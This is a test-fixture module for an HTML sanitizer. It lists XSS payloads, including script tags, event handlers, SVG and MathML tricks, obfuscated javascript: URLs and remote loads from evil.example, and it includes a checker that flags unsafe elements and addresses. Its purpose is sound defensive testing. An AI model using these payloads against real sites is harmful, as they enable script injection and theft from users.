/** What strangers write to have a page run their code, and what must hold of every page. */
import { walk } from '../../src/html/element.ts';
import { schema } from '../../src/html/sanitize.ts';
import { parseHtml } from './render.ts';

/** Payloads whose elements or attributes are to be removed. */
export const ELEMENTS: readonly string[] = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<style>body{display:none}</style>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<applet code="x"></applet>',
	'<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
	'<svg onload="alert(1)"><circle r="9"/></svg>',
	'<math><mtext><img src=x onerror=alert(1)></mtext></math>',
	'<math href="javascript:alert(1)">x</math>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
	'<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
	'<marquee onstart="alert(1)">x</marquee>',
	'<portal src="https://evil.example"></portal>',
	'<steelyard-calculator data-inputs="{}"></steelyard-calculator>',
	'<x-evil onclick="alert(1)">x</x-evil>',
];

/** Payloads inside a drawing that is shown without them. */
export const DRAWINGS: readonly string[] = [
	'<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	'<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
	'<svg><use href="data:image/svg+xml,x#y"/></svg>',
	'<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
	'<svg><set attributeName="onload" to="alert(1)"/></svg>',
];

/** Payloads that show another page, to which a link leads instead. */
export const FRAMES: readonly string[] = [
	'<iframe src="https://evil.example/x"></iframe>',
	'<iframe src="https://evil.example/x" onload="alert(1)" srcdoc="<script>1</script>"></iframe>',
	'<object data="https://evil.example/x"></object>',
	'<embed src="//evil.example/x">',
];

/** Payloads whose attributes are to be removed while the element stays. */
export const ATTRIBUTES: readonly string[] = [
	'<img src=x onerror=alert(1)>',
	'<template><img src=x onerror=alert(1)></template>',
	'<img src=x OnErRoR="alert(1)">',
	'<img src=x onerror\n=alert(1)>',
	'<b onmouseover="alert(1)">x</b>',
	'<details open ontoggle="alert(1)"><summary>x</summary></details>',
	'<video onloadstart="alert(1)"></video>',
	'<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
	'<div style="behavior:url(x)">x</div>',
	'<img name="querySelector" src="x.png">',
	'<a href="x" target="_blank" ping="https://evil.example">x</a>',
	'<input type="image" formaction="javascript:alert(1)" autofocus onfocus="alert(1)">',
	'<p contenteditable is="x-evil">x</p>',
];

/** Addresses that no link may have. */
export const ADDRESSES: readonly string[] = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	'java\tscript:alert(1)',
	'java&#10;script:alert(1)',
	'&#106;avascript:alert(1)',
	'&#x6A;avascript&#x3A;alert(1)',
	'javascript&colon;alert(1)',
	'&#1;javascript:alert(1)',
	'vbscript:msgbox(1)',
	'data:text/html,<script>alert(1)</script>',
	'data:text/html;base64,PHNjcmlwdD4=',
	'blob:https://x.org/1',
	'file:///etc/passwd',
	'/\\evil.example',
	'\\\\evil.example',
	'/&Tab;/evil.example',
];

/** Slots and marks as a note might try to write them, and HTML that is none. */
export const FORGERIES: readonly string[] = [
	'\uFDD20\uFDD3',
	'&#xFDD2;0&#xFDD3;',
	'<b title="&#xFDD2;0&#xFDD3;">&#xFDD2;0&#xFDD3;</b>',
	'undefined:0;',
	'<script/x>alert(1)</script>',
	'<scr<script>ipt>alert(1)</script>',
	'<frameset><frame src="javascript:alert(1)"></frameset>',
	'<!--steelyard-component %7B%7D-->',
	'![<!--steelyard-component %7B%22name%22%3A%22Evil%22%7D-->](https://x.org/y.png)',
];

/** What formulas are made of: elements that neither run nor link. */
const FORMULAS =
	'math mrow mi mn mo mtext mspace ms mfrac msqrt mroot mstyle mpadded mphantom msub msup msubsup munder mover munderover mmultiscripts mprescripts mtable mtr mtd menclose';
const LISTED = new Set([...(schema.tagNames ?? []), ...FORMULAS.split(' ')]);
const URLS =
	/^(?:href|src|poster|cite|action|formAction|data|srcSet|xLinkHref|background|longDesc)$/;
const SOUND = /^(?:https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/;

/** What is wrong with a page as a browser sees it; nothing on a sound page. */
export function faultsOf(html: string): string[] {
	const faults: string[] = [];
	walk(parseHtml(html), (node) => {
		if (node.type === 'comment') faults.push(`comment ${node.value}`);
		if (node.type !== 'element') return undefined;
		const { tagName, properties } = node;
		const { className } = properties;
		const ours = tagName === 'svg' && Array.isArray(className) && className[0] === 'video-poster';
		if (ours) return 'skip';
		if (!LISTED.has(tagName)) faults.push(`<${tagName}>`);
		for (const [name, value] of Object.entries(properties)) {
			if (/^(?:on|style|srcDoc|is$|target|ping)/i.test(name)) faults.push(`${tagName} ${name}`);
			if (name === 'name' && tagName !== 'a') faults.push(`${tagName} name`);
			if (!URLS.test(name)) continue;
			// eslint-disable-next-line no-control-regex
			const address = String(value).replace(/[\u0000-\u0020]/g, '');
			const unsound = !SOUND.test(address) || /^[\\/]{2}/.test(address);
			if (unsound || /^\w*script:/i.test(address)) faults.push(`${name} ${address}`);
		}
		return undefined;
	});
	return faults;
}
